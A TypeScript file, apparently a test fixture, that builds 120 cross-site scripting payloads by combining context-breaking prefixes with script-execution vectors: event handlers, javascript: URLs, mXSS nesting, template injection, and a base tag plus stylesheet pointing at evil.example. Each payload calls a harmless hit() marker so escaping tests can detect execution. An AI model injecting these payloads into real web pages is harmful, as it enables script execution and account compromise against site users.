/** What leaves the place in a page where a text stands. */
const breaks = ["", '"', "'>", '">', "</script>", "</textarea>", "</title></style>", "-->", "]]>", "`${"];

/** What acts where it is read as markup; each names itself, so that a page that runs one says which. */
const acts: readonly ((run: string) => string)[] = [
  (run) => `<script>${run}</script>`,
  (run) => `<img src=x onerror="${run}">`,
  (run) => `<svg onload="${run}"><animate onbegin="${run}" attributeName=x dur=1s>`,
  (run) => `<iframe srcdoc="<script>parent.${run}</script>"></iframe>`,
  (run) => `<details open ontoggle="${run}"><summary>more</summary></details>`,
  (run) =>
    `<input autofocus onfocus="${run}"><style>@keyframes a{}</style><b style="animation:a" onanimationstart="${run}">`,
  (run) => `<a href="javascript:${run}">here</a><form action="javascript:${run}"><button>send</button></form>`,
  (run) => `<video><source onerror="${run}"></video><audio src=x onerror="${run}">`,
  (run) => `<math><mtext><table><mglyph><style><img src=x onerror="${run}"></style></mglyph></table></mtext></math>`,
  (run) =>
    `<base href="//evil.example/"><meta http-equiv="refresh" content="0;url=javascript:${run}"><link rel=stylesheet href="//evil.example/a.css">`,
  (run) => `{{constructor.constructor('${run}')()}}\${${run}}<%= ${run} %>`,
  (run) => `javascript:${run} ;${run};//<object data="javascript:${run}"></object><embed src="javascript:${run}">`,
];

/** 120 texts that run something where they are not kept as texts; each has an element that only markup makes. */
export const payloads: readonly string[] = breaks.flatMap((before, from) =>
  acts.map((act, at) => `${before}${act(`hit(${from * acts.length + at})`)}<i data-hit>`),
);
